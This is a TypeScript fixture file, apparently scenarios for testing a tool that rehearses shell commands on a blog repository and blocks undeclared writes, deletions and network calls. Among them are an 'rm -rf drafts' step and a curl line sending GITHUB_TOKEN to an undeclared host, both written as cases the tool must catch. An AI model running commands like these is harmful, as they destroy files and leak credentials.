import { appendFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

/** One line of the command line, and how it must end. */
export interface Line {
  readonly args: readonly string[];
  readonly exit: number;
  /** Texts that its output must hold. */
  readonly says: readonly string[];
  /** What somebody else does before it, and how that is told. */
  readonly meanwhile?: { readonly told: string; readonly act: (site: string) => Promise<void> };
}

/** A few lines that belong together, and whether the repository is another after them. */
export interface Story {
  readonly title: string;
  readonly lines: readonly Line[];
  readonly lands: boolean;
}

const POSTS = ['--expect', 'blog/*.md'];
const POLICY = ['--policy', '../policy.yaml'];

function rehearsal(title: string, args: readonly string[], exit: number, says: readonly string[]): Story {
  return { title, lines: [{ args: ['rehearse', ...args], exit, says }], lands: false };
}

export const STORIES: readonly Story[] = [
  rehearsal(
    'a script that does what it was declared to do',
    [...POSTS, '--', 'python3 scripts/rewrite_frontmatter.py blog/*.md'],
    0,
    ['files changed:  3', 'blocked:        no'],
  ),
  rehearsal(
    'the same script, with a bug that also rewrites blog/index.html',
    [...POSTS, '--', 'python3 scripts/rewrite_frontmatter_v2.py blog/*.md'],
    10,
    ['blog/index.html', 'blocked:        yes'],
  ),
  rehearsal(
    'a chain whose middle step deletes what it should not',
    [...POSTS, '--', 'sed -i s/notes/note/ blog/*.md && rm -rf drafts && ls blog'],
    10,
    ['step 2 (rm -rf drafts)', 'blocked:        yes'],
  ),
  rehearsal(
    'a command declared read-only that writes',
    ['--read-only', '--', 'wc -w blog/*.md | tee stats.txt'],
    10,
    ['stats.txt', 'blocked:        yes'],
  ),
  rehearsal(
    'a release note fetched from a host that was declared, and a token sent to one that was not',
    [
      ...['--read-only', '--network', 'api.github.com:443', '--credential', 'GITHUB_TOKEN', '--'],
      'curl -s https://api.github.com/zen; curl -s "https://stats.example/?t=$GITHUB_TOKEN"',
    ],
    10,
    ['not declared: stats.example', 'GITHUB_TOKEN in argv, step 2', 'blocked:        yes'],
  ),
  {
    title: 'the good script lands, where policy asks a person from high risk on only',
    lines: [
      {
        args: ['execute', ...POLICY, ...POSTS, '--', 'python3 scripts/rewrite_frontmatter.py blog/*.md'],
        exit: 0,
        says: ['promotion:      promoted (apply)', 'receipt:'],
      },
    ],
    lands: true,
  },
  {
    title: 'a post is edited between rehearsal and promotion: that is drift, and nothing lands',
    lines: [
      {
        args: ['rehearse', ...POLICY, ...POSTS, '--', "sed -i 's/^tags:/topics:/' blog/*.md"],
        exit: 0,
        says: ['files changed:  3'],
      },
      {
        args: ['apply', 'last'],
        exit: 13,
        says: ['promotion:      drifted (apply)   nothing landed', 'blog/lanes.md'],
        meanwhile: {
          told: 'echo "One more thought." >> blog/lanes.md',
          act: (site) => appendFile(join(site, 'blog/lanes.md'), 'One more thought.\n'),
        },
      },
    ],
    lands: false,
  },
];

/** Writes the operator's policy that the last stories are decided by, beside the repository. */
export async function writePolicy(place: string): Promise<void> {
  await writeFile(join(place, 'policy.yaml'), 'version: 1\napprovals: { live: { from: high } }\n');
}
